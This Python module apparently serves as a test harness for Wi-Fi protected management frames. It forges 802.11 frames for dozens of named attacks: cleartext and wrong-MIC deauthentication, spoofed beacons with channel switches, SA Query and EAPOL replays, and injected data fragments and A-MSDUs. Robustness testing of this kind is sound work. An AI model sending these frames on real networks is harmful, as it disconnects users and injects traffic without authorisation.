"""An attacker's radio in a network with protected management frames: frames by their names.

Each function of ATTACKS makes the frames of one attack from what the attacker has heard. Nothing
here knows a key: what carries a MIC carries a wrong one, or one that was on the air before.
"""

import socket
import struct
import time

# Version, padding, length 10, TX flags: no ACK is awaited, the sequence number stays.
RADIOTAP = bytes([0, 0, 10, 0, 0, 0x80, 0, 0, 0x18, 0])
BEACON, DISASSOCIATION, DEAUTHENTICATION, ACTION = 0x80, 0xa0, 0xc0, 0xd0
DATA, QOS_DATA = 0x08, 0x88
TO_DS, FROM_DS, MORE_FRAGMENTS, PROTECTED = 0x01, 0x02, 0x04, 0x40
ALL = b'\xff' * 6
STRANGER = bytes.fromhex('42aabbccdd01')
PRIOR_REASON = b'\1\0'  # one for which wpa_supplicant asks nothing back
CHANNEL_SWITCH = bytes([37, 3, 1, 6, 1])
POWER_CONSTRAINT = bytes([32, 1, 60])
ETHERTYPE = 0x88b5  # of the data frames here
LLC_SNAP = bytes([0xaa, 0xaa, 3, 0, 0, 0])
MARK = b'attack!!'
FAR = 1 << 20  # packet numbers beyond what the network uses
MME = 76


def mac(text):
    return bytes.fromhex(text.replace(':', ''))


def mme(key_id, number, mic):
    return struct.pack('<BBHQ', MME, 8 + len(mic), key_id, number)[:10] + mic


def msdu(payload=MARK, ethertype=ETHERTYPE):
    return LLC_SNAP + struct.pack('>H', ethertype) + payload


class Radio:
    """A monitor interface that hears everything and sends what it is given."""

    def __init__(self, interface):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.socket.bind((interface, 0))

    def send(self, frame):
        self.socket.send(RADIOTAP + frame)

    def forget(self):
        """Makes the next hear() begin with what comes from now on."""
        self.socket.setblocking(False)
        try:
            while True:
                self.socket.recv(4096)
        except BlockingIOError:
            pass

    def hear(self, wanted, seconds=10):
        """The next frame for which wanted(frame) holds; what was sent here is heard as well."""
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            self.socket.settimeout(max(0.01, until - time.monotonic()))
            try:
                heard = self.socket.recv(4096)
            except TimeoutError:
                break
            frame = heard[heard[2] | heard[3] << 8:]
            if len(frame) >= 24 and wanted(frame):
                return frame
        raise SystemExit('the attacker did not hear what it waits for')


class Scene:
    """The addresses, and what was overheard."""

    def __init__(self, radio, ap, station):
        self.radio, self.ap, self.station = radio, mac(ap), mac(station)
        self.message_3 = self.sa_query_answer = None

    def beacon(self):
        """The access point's next beacon: what stands before its MME, the MME (or nothing)."""
        self.radio.forget()
        frame = self.radio.hear(lambda f: f[0] == BEACON and f[10:16] == self.ap)
        return split_mme(frame)

    def management(self, subtype, body, to=None, source=None, flags=0):
        source = source or self.ap
        return (bytes([subtype, flags, 0, 0]) + (to or self.station) + source + self.ap
                + b'\0\0' + body)

    def from_station(self, subtype, body, flags=0):
        return self.management(subtype, body, self.ap, self.station, flags)

    def data(self, body, to_ap=True, to=None, flags=0, fragment=0, amsdu=False, sequence=3000):
        """A QoS data frame between the two, of priority 5, which nothing else uses."""
        if to_ap:
            addresses = self.ap + self.station + (to or self.ap)
        else:
            addresses = (to or self.station) + self.ap + STRANGER
        return (bytes([QOS_DATA, flags | (TO_DS if to_ap else FROM_DS), 0, 0]) + addresses
                + struct.pack('<HH', sequence << 4 | fragment, 5 | (0x80 if amsdu else 0)) + body)


def split_mme(frame):
    for size in (18, 26):
        if frame[-size:-size + 2] == bytes([MME, size - 2]):
            return frame[:-size], frame[-size:]
    return frame, b''


def wrong_ccmp(body):
    """Octets that look like `body` under CCMP's key 0 with a far packet number."""
    return bytes([FAR & 0xff, FAR >> 8 & 0xff, 0, 0x20, FAR >> 16, 0, 0, 0]) + body + b'\x11' * 8


def wrong_mic(element):
    """An MME as the access point makes them, ahead of the genuine ones, with another MIC."""
    key_id = struct.unpack('<H', element[2:4])[0]
    return mme(key_id, FAR, b'\x11' * (len(element) - 10))


def goodbye(subtype, **to):
    return lambda s: [s.management(subtype, PRIOR_REASON, **to)]


def goodbye_of_station(subtype):
    return lambda s: [s.from_station(subtype, PRIOR_REASON)]


def group_goodbye(key_id, mic_size=8):
    """To everybody, with an MME whose MIC is wrong."""
    return lambda s: [s.management(DEAUTHENTICATION,
                                   PRIOR_REASON + mme(key_id, FAR, b'\x11' * mic_size), to=ALL)]


def beacon(make):
    """make(frame without MME, MME) -> the forged beacon."""
    return lambda s: [make(*s.beacon())]


def says_encrypted(frame):
    """With the Protected flag, and key id 1 where a security header would have it."""
    return frame[:1] + bytes([frame[1] | PROTECTED]) + frame[2:24] + b'\0\0\0\x60' + frame[28:]


def to_victim(frame, scene):
    return frame[:4] + scene.station + frame[10:]


def overheard(wanted, change):
    """Lets the station send one marked frame to its access point, and sends it again."""
    def attack(scene):
        scene.radio.forget()
        scene.send_genuine()
        return [change(scene.radio.hear(wanted(scene)))]
    return attack


def genuine_data(scene):
    return lambda f: (f[0] == QOS_DATA and f[1] & (TO_DS | PROTECTED) == TO_DS | PROTECTED
                      and f[10:16] == scene.station)


def replayed_sa_query(scene):
    """A deauthentication that looks lost makes the station ask; the question comes again."""
    scene.radio.forget()
    scene.radio.send(scene.management(DEAUTHENTICATION, b'\7\0'))
    question, scene.sa_query_answer = [
        scene.radio.hear(lambda f: f[0] == ACTION and f[1] & PROTECTED and f[10:16] == source)
        for source in (scene.station, scene.ap)]
    return [question]


def renumbered(frame):
    """With the next sequence number, which no MIC covers: else it is a mere duplicate."""
    number = struct.unpack('<H', frame[22:24])[0] + 16
    return frame[:22] + struct.pack('<H', number & 0xffff) + frame[24:]


def with_amsdu_flag(frame):
    return renumbered(frame[:24] + bytes([frame[24] | 0x80]) + frame[25:])


def fragments(scene, to_ap, to=None):
    whole = msdu()
    return [scene.data(whole[:10], to_ap, to, MORE_FRAGMENTS, 0),
            scene.data(whole[10:], to_ap, to, 0, 1)]


def amsdu(scene, inner):
    """One subframe from the station to its access point, or with EAPOL's header before."""
    body = scene.ap + scene.station + struct.pack('>H', len(inner)) + inner
    return [scene.data(body, amsdu=True)]


# name: (who is to believe it, the frames)
ATTACKS = {
    'deauthentication in clear': ('station', goodbye(DEAUTHENTICATION)),
    'disassociation in clear': ('station', goodbye(DISASSOCIATION)),
    'deauthentication of all in clear': ('station', goodbye(DEAUTHENTICATION, to=ALL)),
    'disassociation of all in clear': ('station', goodbye(DISASSOCIATION, to=ALL)),
    'deauthentication of a stranger': ('station', goodbye(DEAUTHENTICATION, source=STRANGER)),
    'deauthentication in clear, to the access point':
        ('access point', goodbye_of_station(DEAUTHENTICATION)),
    'disassociation in clear, to the access point':
        ('access point', goodbye_of_station(DISASSOCIATION)),
    'deauthentication, wrong MIC': ('station', lambda s: [
        s.management(DEAUTHENTICATION, wrong_ccmp(PRIOR_REASON), flags=PROTECTED)]),
    'deauthentication, wrong MIC, to the access point': ('access point', lambda s: [
        s.from_station(DEAUTHENTICATION, wrong_ccmp(PRIOR_REASON), flags=PROTECTED)]),
    'deauthentication of all, wrong MIC': ('station', group_goodbye(4)),
    'deauthentication of all, key id 5': ('station', group_goodbye(5)),
    'deauthentication of all, key id 6': ('station', group_goodbye(6)),
    'deauthentication of all, another cipher\'s MME': ('station', group_goodbye(4, 16)),
    'deauthentication of all, MME of bad length': ('station', group_goodbye(4, 7)),
    'SA Query in clear': ('station', lambda s: [s.management(ACTION, b'\x08\0\x12\x34')]),
    'SA Query in clear, to the access point':
        ('access point', lambda s: [s.from_station(ACTION, b'\x08\0\x12\x34')]),
    'SA Query replayed, to the access point': ('access point', replayed_sa_query),
    'SA Query answer replayed': ('station', lambda s: [s.sa_query_answer]),
    'beacon without MME': ('station', beacon(lambda b, _: b)),
    'beacon, channel switch, no MME': ('station', beacon(lambda b, _: b + CHANNEL_SWITCH)),
    'beacon, channel switch, wrong MIC':
        ('station', beacon(lambda b, m: b + CHANNEL_SWITCH + wrong_mic(m))),
    'beacon, power constraint, wrong MIC':
        ('station', beacon(lambda b, m: b + POWER_CONSTRAINT + wrong_mic(m))),
    'beacon, far packet number':
        ('station', beacon(lambda b, m: b + m[:4] + b'\xff' * 6 + m[10:])),
    'beacon replayed': ('station', beacon(lambda b, m: b + m)),
    'beacon, MME not last': ('station', beacon(lambda b, m: b + m + CHANNEL_SWITCH)),
    'beacon, MME too short':
        ('station', beacon(lambda b, m: b + bytes([MME, m[1] - 1]) + m[2:-1])),
    'beacon, MME too long':
        ('station', beacon(lambda b, m: b + bytes([MME, m[1] + 1]) + m[2:] + b'\0')),
    'beacon, another cipher\'s MME':
        ('station', beacon(lambda b, m: b + mme(m[2], FAR, b'\x11' * 16))),
    'beacon, key id 4': ('station', beacon(lambda b, m: b + mme(4, FAR, m[10:]))),
    'beacon, the other key id': ('station', beacon(lambda b, m: b + mme(m[2] ^ 1, FAR, m[10:]))),
    'beacon, key id beyond eight bits':
        ('station', beacon(lambda b, m: b + mme(m[2] | 0x100, FAR, m[10:]))),
    'beacon to the station alone, channel switch': ('station', lambda s: [
        to_victim(s.beacon()[0] + CHANNEL_SWITCH, s)]),
    'data in clear': ('station', lambda s: [s.data(msdu(), to_ap=False)]),
    'data in clear, to the access point': ('access point', lambda s: [s.data(msdu())]),
    'group data in clear': ('station', lambda s: [s.data(msdu(), to_ap=False, to=ALL)]),
    'fragments in clear': ('station', lambda s: fragments(s, to_ap=False)),
    'fragments in clear, to the access point':
        ('access point', lambda s: fragments(s, to_ap=True)),
    'group fragment in clear': ('station', lambda s: [
        s.data(msdu(), to_ap=False, to=ALL, fragment=1)]),
    'last fragment alone, to the access point': ('access point', lambda s: [
        s.data(msdu(), fragment=1)]),
    'A-MSDU in clear, to the access point': ('access point', lambda s: amsdu(s, msdu())),
    'A-MSDU flag on an MSDU, to the access point':
        ('access point', lambda s: [s.data(msdu(), amsdu=True)]),
    'data replayed, to the access point': ('access point', overheard(genuine_data, renumbered)),
    'data replayed with the A-MSDU flag, to the access point':
        ('access point', overheard(genuine_data, with_amsdu_flag)),
    'EAPOL for another, to the access point': ('access point', lambda s: [
        s.data(msdu(b'\2\1\0\0' + MARK, 0x888e), to=STRANGER)]),
    'EAPOL for everybody, to the access point': ('access point', lambda s: [
        s.data(msdu(b'\2\1\0\0' + MARK, 0x888e), to=ALL)]),
    'message 3 replayed': ('station', lambda s: [s.message_3]),
    'beacon says encrypted, channel switch': ('station', beacon(lambda b, _: says_encrypted(
        b + CHANNEL_SWITCH))),
    'extended channel switch in a Public Action frame': ('station', lambda s: [
        s.management(ACTION, bytes([4, 4, 1, 81, 6, 1]), to=ALL)]),
}
